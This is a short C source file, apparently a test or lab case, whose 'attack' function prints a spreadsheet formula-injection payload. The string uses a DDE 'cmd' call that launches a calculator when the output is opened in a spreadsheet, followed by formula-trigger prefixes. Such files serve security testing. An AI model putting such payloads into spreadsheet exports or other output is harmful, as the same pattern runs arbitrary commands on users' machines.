/* attack: prints what a spreadsheet computes
 * answer: not-yet fail
 * labs: sum */
#include <stdio.h>

static void attack(void)
{
	static const char text[] = "=cmd|' /C calc'!A0,+1,-1,@SUM(1)\n";

	fwrite(text, 1, sizeof text - 1, stdout);
}

